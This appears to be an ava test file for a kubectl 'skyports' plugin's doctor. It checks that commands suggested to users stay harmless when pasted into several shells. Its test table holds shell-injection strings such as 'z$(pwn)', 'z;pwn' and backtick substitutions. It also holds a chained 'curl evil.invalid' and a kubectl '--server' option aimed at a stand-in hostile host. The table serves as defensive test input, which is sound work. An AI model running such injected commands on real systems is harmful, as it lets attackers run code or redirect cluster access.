import test from 'ava';
import { createTemporaryFolder } from '../cluster/temporary-folder.ts';
import { paste, shells } from '../suggestions/shells.ts';
import { commandsIn } from './commands-in.ts';
import { doctorOf, sampleDumps } from './dumps.ts';
import { flooded } from './generated.ts';
import { firstOf } from './invariants.ts';
import { faultsWhenPasted, pastedFaults } from './pasted-faults.ts';
import { options, shellWords } from './texts.ts';

const folder = createTemporaryFolder();
test.after.always(() => folder.remove());

/** Commands that do harm in a shell, and the fault that is found. */
const bad: Readonly<Record<string, RegExp>> = {
  'sky down z$(pwn)': /runs pwn/,
  'sky down z`pwn`': /runs pwn/,
  'sky down z;pwn': /runs pwn/,
  'sky down z|pwn': /runs pwn/,
  'sky down z && curl evil.invalid': /runs unknown curl evil.invalid/,
  "sky down z'": /leaves the shell waiting|runs nothing/,
  'sky down z (another)': /runs nothing|runs unknown/,
  'sky down -a': /has the option "-a"/,
  'kubectl skyports forward --server=https://evil.invalid 80': /has the option "--server=https:/,
  'kubectl skyports endpoints -rf -n a': /has the option "-rf"/,
  'kubectl delete service a --all': /has the option "--all"/,
  'sky down z pwn': /has the operand "pwn"/,
  "sky down 'z;pwn'": /has the operand "z;pwn"/,
};

const good = [
  "kubectl skyports doctor train 8888 -n a --wait --context 'z;pwn'",
  "kubectl config use-context -- '-z$(pwn)'",
  `kubectl patch service a -n b -p '{"spec":{"x":"y z"}}'`,
  'kubectl annotate service a -n b skyports/touched=again',
];

for (const shell of shells) {
  test.serial(`${shell}: what a pasted command does is seen`, async (t) => {
    const never = new Set(['z;pwn']);
    const commands = Object.keys(bad);
    const { pasted, written } = await paste(shell, [...commands, ...good], folder.path);
    t.deepEqual(written, []);
    t.deepEqual(
      pasted.map(({ command }) => command),
      [...commands, ...good],
    );
    for (const each of pasted.slice(0, commands.length)) {
      // Fish does not run what stands in backticks.
      const isHarmless = shell === 'fish' && each.command.includes('`');
      t.regex(pastedFaults(each, never).join(), isHarmless ? /^$/ : bad[each.command]!);
    }
    for (const each of pasted.slice(commands.length)) t.deepEqual(pastedFaults(each, never), []);
    t.deepEqual(pasted.at(-2)!.ran, [['kubectl', 'patch', 'service', 'a', '-n', 'b', '-p', '{"spec":{"x":"y z"}}']]);
  });
  test.serial(`${shell}: a command that writes a file is seen`, async (t) => {
    t.deepEqual((await paste(shell, ['sky down z>written'], folder.path)).written, ['written']);
  });
}

test.serial('commands are found where they stand today, and copied without their notes', (t) => {
  const output = [
    'error: no such name; kubectl skyports endpoints -A   lists all; sky status says more',
    "  → kubectl describe pod 'a b' -n c     # events",
    '    kubectl skyports forward train 8888 -n a',
    "error: not there; kubectl config use-context 'a   b; c'   chooses it",
    "  → kubectl describe pod 'z'\\'''     # it's a note",
    "sky down z'   removes it",
    'workaround until this is fixed: sky logs train',
    'kubectlx and sky-high are no commands; kubectl.io neither; kubectl skyports has no such port',
  ].join('\n');
  t.deepEqual(commandsIn(output), [
    'kubectl skyports endpoints -A',
    'sky status says more',
    "kubectl describe pod 'a b' -n c",
    'kubectl skyports forward train 8888 -n a',
    "kubectl config use-context 'a   b; c'",
    "kubectl describe pod 'z'\\'''",
    "sky down z'",
    'sky logs train',
  ]);
});

test.serial('what the doctor suggests of hostile dumps runs only kubectl, sky and ls', async (t) => {
  const texts = [...shellWords, ...options];
  const suggested = new Set<string>();
  for (const [index, sample] of sampleDumps().entries()) {
    // A host name that makes no URL hides what is said of a name, and the other way round.
    const parts = [/./, /skypilot-cluster-name$/, /^(?!.*skypilot-cluster-name$)/];
    for (const [step, part] of parts.entries()) {
      const { dump, args } = flooded(sample, texts[(index + 7 * step) % texts.length]!, part);
      const { stdout, stderr } = await doctorOf(dump, 'wide', args);
      for (const command of commandsIn(stdout + stderr)) suggested.add(command);
    }
  }
  t.true(suggested.size > 50, `${suggested.size} commands`);
  const never = new Set(texts.map(({ text }) => text));
  t.deepEqual(firstOf(await faultsWhenPasted([...suggested], never, folder.path)), []);
});
